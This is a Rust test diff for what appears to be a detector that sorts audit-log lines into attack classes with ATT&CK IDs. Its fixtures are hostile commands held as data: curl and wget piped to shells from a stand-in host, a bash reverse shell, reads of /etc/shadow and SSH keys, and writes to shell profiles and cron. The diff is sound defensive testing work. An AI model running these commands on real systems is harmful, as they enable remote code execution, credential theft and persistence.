@@ -352,6 +352,27 @@ const ATTACKS: &[Attack] = &[
         &[("remote_execution", "medium", false, "T1105")],
     ),
     (
+        "a program from the network, by way of a file",
+        &[
+            "allowed exec /usr/bin/curl -- curl -fsSLo /tmp/payload https://a.test/p",
+            "allowed exec /tmp/payload -- /tmp/payload",
+        ],
+        &[("remote_execution", "medium", false, "T1105")],
+    ),
+    (
+        "a script from the network, by way of a file",
+        &[
+            "allowed exec /usr/bin/wget -- wget -q https://a.test/i.sh?x=1",
+            "allowed exec /bin/sh -- sh -x ./i.sh",
+        ],
+        &[("remote_execution", "medium", false, "T1105")],
+    ),
+    (
+        "an agent that holds keys",
+        &["denied connect /tmp/ssh-XXabc/agent.17 by /usr/bin/python3"],
+        &[("credential_harvesting", "medium", true, "T1552.004")],
+    ),
+    (
         "a shell for somebody else",
         &["allowed exec /bin/bash -- bash -c \"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\""],
         &[("remote_execution", "high", false, "T1095")],
@@ -524,4 +545,50 @@ fn row_141_harvesting_and_exfiltration_are_a_supply_chain_attack() {
     );
     // The other way round nothing was there to be sent.
     assert_eq!(classes(&[exfiltration, harvest]), [pair("credential_harvesting", "credential-access")]);
+}
+
+#[test]
+fn row_142_prevented_is_computed_from_what_was_tried() {
+    for (lines, want) in [
+        (&["denied read /etc/shadow by /bin/cat"][..], true),
+        (&["failed read /home/u/.ssh/id_rsa by /bin/cat"], true),
+        (&["denied read /etc/shadow by /bin/cat", "allowed read /etc/shadow- by /bin/cat"], false),
+        (&["denied write /home/u/.bashrc", "failed write /etc/cron.d/x"], true),
+        (&["denied write /home/u/.bashrc", "allowed write /home/u/.zshrc"], false),
+        (&["write write /home/u/.zshrc"], false),
+        (&["refused mount"], true),
+        (&["passed mount"], false),
+        (&["failed reach pool.evil.test:3333"], true),
+        (&["failed reach pool.evil.test:3333 sent=100"], false),
+    ] {
+        let all = of(lines);
+        assert!(!all.is_empty(), "{lines:?}");
+        assert_eq!(all.iter().all(|one| one.prevented), want, "{lines:?}: {all:#?}");
+    }
+}
+
+#[test]
+fn scripts_from_the_network_in_many_spellings() {
+    for script in [
+        "curl https://a.test/i | sh",
+        "curl -sSL https://a.test/i|bash",
+        "wget -qO- https://a.test/i | sudo -E bash -",
+        "cd /tmp && curl https://a.test/i | bash -s -- -y",
+        "curl https://a.test/i | tee x | sh -x",
+        "bash <(curl -s https://a.test/i)",
+        "source <(curl -s https://a.test/i)",
+        "eval $(wget -qO- https://a.test/i)",
+        "sh -c '$(curl -fsSL https://a.test/i)'",
+        "sudo bash -c '$(curl https://a.test/i)'",
+        "curl https://a.test/i | python3",
+        "curl https://a.test/i | python3 - --yes",
+        "X=1 timeout 5 curl https://a.test/i | env Y=2 bash",
+        "/usr/bin/curl https://a.test/i | /bin/sh",
+        "(curl https://a.test/i | sh)",
+        "true; curl https://a.test/i | node",
+        "eval `curl https://a.test/i`",
+    ] {
+        let all = of(&[&format!("allowed exec /bin/sh -- sh -c \"{script}\"")]);
+        assert!(all.iter().any(|one| spelt(one.class) == "remote_execution"), "{script}");
+    }
 }
